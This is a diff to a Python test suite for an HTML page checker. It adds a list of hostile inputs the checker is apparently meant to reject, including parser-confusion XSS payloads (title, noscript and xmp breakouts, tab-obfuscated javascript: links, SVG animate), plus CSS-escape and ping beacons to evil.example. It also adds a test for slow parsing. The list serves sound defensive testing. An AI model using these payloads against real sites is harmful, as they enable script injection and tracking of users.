@@ -29,6 +29,32 @@ HOSTILE = {
     "style block": "<style>body { background: url('//evil.example/p.png') }</style>",
     "style import": "<style>@import 'x.css';</style>",
     "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    # what a browser reads otherwise than Python's parser (found by a review)
+    "type given twice": '<script type="text/javascript" type="application/json">alert(1)</script>',
+    "src given twice": '<script src="https://evil.example/x.js" src="theme/js/a.js"></script>',
+    "data script as the theme's": '<script src="data:text/javascript,alert(1)//theme/js/x.js">',
+    "backslash host": '<script src="/\\evil.example/theme/js/x.js"></script>',
+    "noscript ends in a title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "title ends in a title": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
+    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+    "svg style is markup": "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "comment closed at once": "<!--><img src=x onerror=alert(1)>-->",
+    "cdata in html": "<![CDATA[ ><img src=x onerror=alert(1)> ]]>",
+    "tab in a scheme": '<img src="ht&#9;tps://evil.example/x.png">',
+    "control before the address": '<img src="&#1;https://evil.example/x.png">',
+    "image-set": "<p style=\"background: image-set('https://evil.example/a.png' 1x)\">x</p>",
+    "escaped url": "<style>p { background: \\75rl(https://evil.example/a.png) }</style>",
+    "escaped import": "<style>@\\69mport 'https://evil.example/s.css';</style>",
+    "body background": '<body background="https://evil.example/b.png">',
+    "ping": '<a href="a.html" ping="https://evil.example/p">x</a>',
+    "tab in javascript": '<a href="java&#9;script:alert(1)">x</a>',
+    "svg javascript": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "animated to javascript": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
+    "remote font list": (
+        '<script>if (location.protocol !== "file:") for (const href of ["https://evil.example/f.woff2"]) '
+        'document.head.append(Object.assign(document.createElement("link"), {rel: "preload", '
+        'as: "font", type: "font/woff2", crossOrigin: "", href}));</script>'
+    ),
     "font list made code": (
         '<script>if (location.protocol !== "file:") for (const href of ["a"+alert(1)+"b"]) '
         'document.head.append(Object.assign(document.createElement("link"), {rel: "preload", '
@@ -62,6 +88,16 @@ THEME = {
 @pytest.mark.parametrize("html", THEME.values(), ids=list(THEME))
 def test_the_themes_own_pages_pass(html):
     assert page_problem(f"<html><head>{html}</head></html>", OWN) is None
+
+
+def test_a_style_made_to_be_slow_is_read_in_linear_time():
+    """`url(` a hundred thousand times once took minutes to read (a quadratic pattern): it
+    is read within the limit the build gives a template's render (about 0.1 s here; the
+    limit only stops a hang)."""
+    from profile_gen.book import time_limit
+
+    with time_limit.cpu_limit():
+        assert page_problem("<style>" + "url(" * 100_000 + "</style>", OWN) is None
 
 
 def test_a_template_writing_a_script_stops_the_build(sample_copy, run_cli, in_dir):
